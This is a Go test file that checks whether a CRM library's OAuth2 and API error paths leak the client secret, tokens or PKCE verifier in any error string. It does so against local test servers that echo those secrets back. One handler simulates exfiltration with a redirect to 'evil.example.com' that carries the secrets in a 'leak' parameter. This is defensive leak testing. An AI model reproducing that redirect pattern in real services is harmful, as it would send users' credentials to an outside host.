package crm_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/oauth2"

	"github.com/tribekit/tribekit/internal/testenv"
	"github.com/tribekit/tribekit/tribe/crm"
	"github.com/tribekit/tribekit/tribe/crm/crmtest"
)

// reachableErrors returns err and every error reachable from it through
// Unwrap() error and Unwrap() []error.
func reachableErrors(err error) []error {
	var out []error
	testenv.EachError(err, func(e error) { out = append(out, e) })
	return out
}

// forms returns s literally, URL-encoded and base64-encoded (alone and as
// HTTP Basic credentials with the client ID).
func forms(s string) []string {
	return []string{
		s,
		url.QueryEscape(s),
		base64.StdEncoding.EncodeToString([]byte(s)),
		base64.StdEncoding.EncodeToString([]byte(crmtest.DefaultClientID + ":" + s)),
	}
}

// TestNoSecretInAnyError drives crm's error paths against servers that echo
// what they were sent, and checks every error reachable from each, printed
// with %v, %+v and %#v, for every secret in each of its forms.
func TestNoSecretInAnyError(t *testing.T) {
	const (
		secret   = crmtest.DefaultClientSecret
		code     = "code_secret_auth_value_1234"
		refresh  = "rt_secret_refresh_value_1234"
		access   = "at_secret_access_value_1234"
		verifier = "verifier-secret-value-0123456789abcdefghijklmnop"
	)
	secrets := []string{secret, code, refresh, access, verifier}
	echoAll := func(form url.Values, r *http.Request) string {
		var all []string
		for _, k := range []string{"client_secret", "code", "refresh_token", "code_verifier"} {
			if v := form.Get(k); v != "" {
				all = append(all, v, url.QueryEscape(v), base64.StdEncoding.EncodeToString([]byte(v)),
					"Basic "+base64.StdEncoding.EncodeToString([]byte(form.Get("client_id")+":"+v)))
			}
		}
		return strings.Join(all, " ") + " " + r.Header.Get("Authorization")
	}
	// tokenServer answers every token request with what reply makes of it.
	tokenServer := func(t *testing.T, reply func(w http.ResponseWriter, echo string)) string {
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if err := r.ParseForm(); err != nil {
				t.Errorf("form: %v", err)
			}
			reply(w, echoAll(r.PostForm, r))
		}))
		t.Cleanup(s.Close)
		return s.URL
	}
	jsonError := func(status int) func(http.ResponseWriter, string) {
		return func(w http.ResponseWriter, echo string) {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(status)
			_ = json.NewEncoder(w).Encode(map[string]string{"error": "invalid_grant", "error_description": "bad " + echo, "error_uri": "https://x/?" + echo})
		}
	}
	textError := func(w http.ResponseWriter, echo string) {
		w.WriteHeader(http.StatusBadGateway)
		_, _ = fmt.Fprintf(w, "<html>upstream said %s</html>", echo)
	}
	redirect := func(w http.ResponseWriter, echo string) {
		w.Header().Set("Location", "https://evil.example.com/?leak="+url.QueryEscape(echo))
		w.WriteHeader(http.StatusTemporaryRedirect)
	}
	ok200Garbage := func(w http.ResponseWriter, echo string) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = fmt.Fprintf(w, `{"token_type":"bearer","note":%q}`, echo)
	}
	conf := func(tokenURL string, style oauth2.AuthStyle) *crm.Config {
		return &crm.Config{
			ClientID: crmtest.DefaultClientID, ClientSecret: secret,
			Endpoint:    oauth2.Endpoint{TokenURL: tokenURL, AuthURL: tokenURL, AuthStyle: style},
			RedirectURL: crmtest.DefaultRedirectURL, Scopes: allScopes(),
		}
	}
	grants := map[string]func(*crm.Config) error{
		"client_credentials": func(c *crm.Config) error {
			ts, err := c.ClientCredentialsTokenSource(context.Background())
			require.NoError(t, err)
			_, err = ts.Token()
			return err
		},
		"authorization_code": func(c *crm.Config) error {
			_, err := c.Exchange(context.Background(), code, crm.WithCodeVerifier(verifier))
			return err
		},
		"refresh_token": func(c *crm.Config) error {
			ts, err := c.TokenSource(context.Background(), expiredStore(t, refresh))
			require.NoError(t, err)
			_, err = ts.Token()
			return err
		},
		"quick setup": func(c *crm.Config) error {
			_, err := c.QuickSetup(context.Background(), refresh, &crm.MemoryStore{})
			return err
		},
	}
	replies := map[string]func(http.ResponseWriter, string){
		"JSON error echoing":     jsonError(http.StatusBadRequest),
		"401 JSON error echoing": jsonError(http.StatusUnauthorized),
		"non-JSON body echoing":  textError,
		"redirect echoing":       redirect,
		"200 without a token":    ok200Garbage,
	}
	type path struct {
		name string
		run  func(t *testing.T) error
	}
	var paths []path
	for rname, reply := range replies {
		for gname, grant := range grants {
			for _, style := range []oauth2.AuthStyle{oauth2.AuthStyleInParams, oauth2.AuthStyleInHeader} {
				paths = append(paths, path{fmt.Sprintf("%s/%s/style %d", rname, gname, style), func(t *testing.T) error {
					return grant(conf(tokenServer(t, reply)+"/token", style))
				}})
			}
		}
	}
	apiServer := func(t *testing.T, status int, body string) string {
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(status)
			auth := r.Header.Get("Authorization")
			tok := strings.TrimPrefix(auth, "Bearer ")
			_, _ = fmt.Fprintf(w, body, auth, url.QueryEscape(tok), base64.StdEncoding.EncodeToString([]byte(tok)))
		}))
		t.Cleanup(s.Close)
		return s.URL
	}
	api := func(status int, body string) func(t *testing.T) error {
		return func(t *testing.T) error {
			c := &crm.Client{BaseURL: apiServer(t, status, body), TokenSource: oauth2.StaticTokenSource(&oauth2.Token{AccessToken: access, RefreshToken: refresh})}
			_, err := c.GetCurrentEmployee(context.Background())
			return err
		}
	}
	paths = append(paths,
		path{"API v4 error echoing the token", api(401, `{"error":{"code":"%[1]s","message":"token %[1]s %[2]s %[3]s","target":"%[1]s"}}`)},
		path{"API v3 error echoing the token", api(403, `{"error":{"code":"x","message":{"value":"token %[1]s %[2]s %[3]s"}}}`)},
		path{"API success body that is not JSON", api(200, `token %[1]s %[2]s %[3]s`)},
		path{"API unreachable", func(t *testing.T) error {
			c := &crm.Client{BaseURL: "http://127.0.0.1:1", TokenSource: oauth2.StaticTokenSource(&oauth2.Token{AccessToken: access})}
			_, err := c.GetCurrentEmployee(context.Background())
			return err
		}},
		path{"token URL unreachable", func(t *testing.T) error {
			return grants["refresh_token"](conf("http://127.0.0.1:1/token?client_secret="+secret, oauth2.AuthStyleInParams))
		}},
	)
	for _, p := range paths {
		t.Run(p.name, func(t *testing.T) {
			err := p.run(t)
			require.Error(t, err)
			assert.True(t, strings.HasPrefix(err.Error(), "crm: "), err.Error())
			for i, e := range reachableErrors(err) {
				for _, verb := range []string{"%v", "%+v", "%#v", "%s"} {
					text := fmt.Sprintf(verb, e)
					for _, s := range secrets {
						for _, f := range forms(s) {
							assert.NotContains(t, text, f, "error %d (%T) with %s", i, e, verb)
						}
					}
				}
			}
		})
	}
	http.DefaultTransport.(*http.Transport).CloseIdleConnections()
}

// expiredStore holds an expired token with the given refresh token.
func expiredStore(t *testing.T, refresh string) *crm.MemoryStore {
	t.Helper()
	s := &crm.MemoryStore{}
	require.NoError(t, s.Save(context.Background(), &oauth2.Token{AccessToken: "old", RefreshToken: refresh, Expiry: time.Now().Add(-time.Hour)}))
	return s
}
